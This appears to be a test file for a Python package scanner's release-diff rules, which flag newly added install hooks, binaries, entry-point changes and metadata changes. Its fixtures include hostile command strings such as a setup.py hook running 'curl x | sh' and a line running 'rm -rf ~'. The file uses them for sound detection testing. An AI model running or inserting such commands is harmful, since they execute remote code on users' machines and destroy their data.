"""Diff rules and `mark_new`: what a release adds since the previous one, ignoring moved code."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

from douane.analysis import diff as D
from douane.analysis.engine import analyse
from douane.archive import Opened
from douane.domain import Artifact, ArtifactKind, Confidence, Family, Finding, Member, Severity

PLAIN_SETUP = 'from setuptools import setup\n\nsetup(name="tinytool", version="1.0")\n'
ELF = b"\x7fELF\x02\x01\x01" + b"\x00" * 57


def _opened(files: dict[str, str | bytes], kind: ArtifactKind, root: str = "") -> Opened:
    members = []
    for p, t in files.items():
        data = t.encode() if isinstance(t, str) else t
        members.append(Member(root + p, data, len(data)))
    return Opened(kind=kind, format="folder", members=tuple(members), issues=(), root=root)


def _scan(new: dict, old: dict | None, kind: ArtifactKind = ArtifactKind.SDIST,
          roots: tuple[str, str] = ("", "")):  # fmt: skip
    previous = None
    if old is not None:
        prev_artifact = Artifact(path=Path("old"), filename="old", name="tinytool", version="1.0")
        previous = analyse(prev_artifact, _opened(old, kind, roots[1])).context
    artifact = Artifact(path=Path("new"), filename="new", name="tinytool", version="1.1")
    return analyse(artifact, _opened(new, kind, roots[0]), previous=previous)


def _rules(analysis, prefix: str = "DOU12") -> list[tuple[str, str, int | None]]:
    return sorted((f.rule, f.file, f.line) for f in analysis.findings if f.rule.startswith(prefix))


def _finding(file: str, snippet: str, rule: str = "DOU201", line: int = 1) -> Finding:
    return Finding(rule=rule, name="x", family=Family.PROCESS, severity=Severity.LOW,
                   confidence=Confidence.HIGH, file=file, line=line, snippet=snippet,
                   message="m")  # fmt: skip


# -- mark_new ------------------------------------------------------------------------------------


def test_mark_new_ignores_line_shifts_sdist_roots_and_version_bumps():
    before = [_finding("tinytool-1.0/pkg/run.py", 'os.system("pip install x==1.0")', line=5)]
    after = [
        _finding("tinytool-1.1/pkg/run.py", 'os.system("pip  install x==1.1")', line=9),
        _finding("tinytool-1.1/pkg/run.py", 'os.system("rm -rf ~")', line=12),
    ]
    marked = D.mark_new(after, before)
    assert [f.new for f in marked] == [False, True]
    assert [replace(f, new=None) for f in marked] == after  # nothing else changes


def test_mark_new_counts_repeats():
    """Regression: a second copy of an old line is new, not hidden by the first."""
    before = [_finding("a.py", "os.system(cmd)")]
    after = [_finding("a.py", "os.system(cmd)", line=1), _finding("a.py", "os.system(cmd)", line=7)]
    assert [f.new for f in D.mark_new(after, before)] == [False, True]


def test_mark_new_without_previous_findings_marks_everything_new():
    assert [f.new for f in D.mark_new([_finding("a.py", "x")], [])] == [True]


def test_normalise_path():
    assert D.normalise_path("tinytool-1.0.3/setup.py") == "setup.py"
    assert D.normalise_path("tinytool-2.0rc1/pkg/a.py") == "pkg/a.py"
    assert D.normalise_path("tinytool-1.0.dist-info/entry_points.txt") == (
        "tinytool.dist-info/entry_points.txt"
    )
    assert D.normalise_path("pkg/_x.cpython-311-x86_64-linux-gnu.so") == "pkg/_x.so"
    assert D.normalise_path("pkg/_x.abi3.so") == "pkg/_x.so"
    assert D.normalise_path("two-factor/x.py") == "two-factor/x.py"  # not a version root


# -- rules ---------------------------------------------------------------------------------------


def test_rules_are_silent_without_a_previous_release():
    analysis = _scan({"setup.py": "import os\nos.system('x')\n" + PLAIN_SETUP}, None)
    assert _rules(analysis) == []


def test_new_install_hook_in_sdists_with_different_roots():
    old = {"setup.py": PLAIN_SETUP, "pkg/__init__.py": ""}
    new = {"setup.py": "import os\nos.system('curl x | sh')\n" + PLAIN_SETUP, "pkg/__init__.py": ""}
    analysis = _scan(new, old, roots=("tinytool-1.1/", "tinytool-1.0/"))
    hits = [f for f in analysis.findings if f.rule == "DOU1201"]
    assert [(f.file, f.line) for f in hits] == [("tinytool-1.1/setup.py", 2)]
    assert "os.system" in hits[0].message


def test_hook_kept_from_previous_release_is_not_new():
    hooked = "import os\nos.system('make assets')\n" + PLAIN_SETUP
    analysis = _scan({"setup.py": "# build\n" + hooked}, {"setup.py": hooked})
    assert _rules(analysis) == []


def test_layout_rules_need_artifacts_of_the_same_kind():
    """A platform wheel compared with an sdist would look like it gained binaries."""
    old = {"pkg/__init__.py": ""}
    new = {"pkg/__init__.py": "", "pkg/_x.cpython-311-x86_64-linux-gnu.so": ELF}
    assert _rules(_scan(new, old, ArtifactKind.WHEEL)) == [
        ("DOU1203", "pkg/_x.cpython-311-x86_64-linux-gnu.so", None)
    ]
    prev = analyse(Artifact(path=Path("o"), filename="o"), _opened(old, ArtifactKind.SDIST)).context
    mixed = analyse(Artifact(path=Path("n"), filename="n"), _opened(new, ArtifactKind.WHEEL),
                    previous=prev)  # fmt: skip
    assert _rules(mixed) == []


def test_wheel_rebuilt_for_a_new_python_is_not_a_new_binary():
    old = {"pkg/_x.cpython-311-x86_64-linux-gnu.so": ELF}
    new = {"pkg/_x.cpython-312-x86_64-linux-gnu.so": ELF}
    assert _rules(_scan(new, old, ArtifactKind.WHEEL)) == []


def test_new_binary_beside_existing_ones_is_low():
    old = {"pkg/_a.abi3.so": ELF}
    new = {"pkg/_a.abi3.so": ELF, "pkg/_b.abi3.so": ELF}
    hits = [f for f in _scan(new, old, ArtifactKind.WHEEL).findings if f.rule == "DOU1203"]
    assert [(f.file, f.severity) for f in hits] == [("pkg/_b.abi3.so", Severity.LOW)]


def test_new_behaviour_finding_points_at_the_new_line():
    old = {"pkg/run.py": "import os\n\n\ndef clean():\n    os.system('make clean')\n"}
    new = {"pkg/run.py": old["pkg/run.py"] + "\n\nos.system('curl x | sh')\n"}
    hits = [f for f in _scan(new, old).findings if f.rule == "DOU1202"]
    assert {(f.file, f.line) for f in hits} == {("pkg/run.py", 8)}


def test_entry_points_from_setup_cfg_and_repointing():
    cfg = "[options.entry_points]\nconsole_scripts =\n    tinytool = {}:main\n"
    analysis = _scan(
        {"setup.cfg": cfg.format("tinyboot")}, {"setup.cfg": cfg.format("tinytool.cli")}
    )
    hits = [f for f in analysis.findings if f.rule == "DOU1204"]
    assert [(f.file, f.line, f.severity) for f in hits] == [("setup.cfg", 3, Severity.MEDIUM)]


def test_entry_points_parsed_from_every_source():
    setup = ('from setuptools import setup\nsetup(entry_points="""\n[console_scripts]\n'
             'a = pkg.cli:main\n""")\n')  # fmt: skip
    ctx = _scan({"setup.py": setup, "pyproject.toml": '[project.gui-scripts]\nb = "pkg.gui:main"\n'
                 '[project.entry-points."pkg.plugins"]\nc = "pkg.p"\n'}, None).context  # fmt: skip
    eps = D.entry_points(ctx)
    assert {g: set(v) for g, v in eps.items()} == {
        "console_scripts": {"a"}, "gui_scripts": {"b"}, "pkg.plugins": {"c"}}  # fmt: skip


def test_contact_change_within_the_same_host_is_low():
    def meta(home: str) -> dict:
        return {
            "PKG-INFO": f"Metadata-Version: 2.1\nName: tinytool\nVersion: 1\nHome-page: {home}\n"
        }

    hits = [f for f in _scan(meta("https://github.com/org/tinytool"),
                             meta("https://github.com/alice/tinytool")).findings
            if f.rule == "DOU1205"]  # fmt: skip
    assert [(f.line, f.severity) for f in hits] == [(4, Severity.LOW)]


def test_broken_config_files_do_not_break_the_rules():
    broken = {"setup.cfg": "[options.entry_points\nx", "pyproject.toml": "[project\n",
              "setup.py": "def (:\n", "PKG-INFO": "\x00\x01"}  # fmt: skip
    analysis = _scan(broken, broken)
    assert _rules(analysis) == []
    assert not analysis.stats.get("rule_errors")


def test_entry_point_refactored_within_its_package_is_low():
    cfg = "[options.entry_points]\nconsole_scripts =\n    tinytool = tinytool.{}:main\n"
    analysis = _scan({"setup.cfg": cfg.format("cli.app")}, {"setup.cfg": cfg.format("cli")})
    hits = [f for f in analysis.findings if f.rule == "DOU1204"]
    assert [f.severity for f in hits] == [Severity.LOW]
